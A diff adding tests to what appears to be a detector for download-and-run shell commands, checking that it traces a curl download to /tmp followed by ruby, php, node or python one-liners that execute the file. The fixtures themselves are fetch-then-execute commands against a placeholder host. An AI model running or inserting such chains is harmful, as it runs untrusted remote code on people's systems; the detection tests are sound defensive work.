@@ -489,3 +489,25 @@ describe('download-and-run spellings that name the pipe or the file another way'
     expect(stdio(sh(script))).toBeGreaterThan(0);
   });
 });
+
+describe('a downloaded file loaded as code by an interpreter ran from where it was dropped', () => {
+  it.each([
+    ['ruby -e "load \\"/tmp/a.x\\""'],
+    ['php -r "include \\"/tmp/a.x\\";"'],
+    ['node -e "require(\\"/tmp/a.x\\")"'],
+    ['python3 -c "exec(open(\\"/tmp/a.x\\").read())"'],
+    ['python3 -c "import runpy; runpy.run_path(\\"/tmp/a.x\\")"'],
+  ])('curl -so /tmp/a.x …; %s', (load) => {
+    const e = sh(`curl -so /tmp/a.x https://cdn.example/a.x; ${load}`);
+    const flow = e.flows.find((f) => f.sink === 'exec');
+    expect(flow?.source).toEqual({ kind: 'network', url: 'https://cdn.example/a.x' });
+    expect(flow?.steps).toContain('runs /tmp/a.x');
+  });
+
+  it('a module by name is a library, not a file', () => {
+    const [e] = run([
+      { name: 'c', image: 'ruby', command: ['ruby', '-e', 'require "json"; puts JSON.generate({})'] },
+    ]);
+    expect(e?.flows).toEqual([]);
+  });
+});
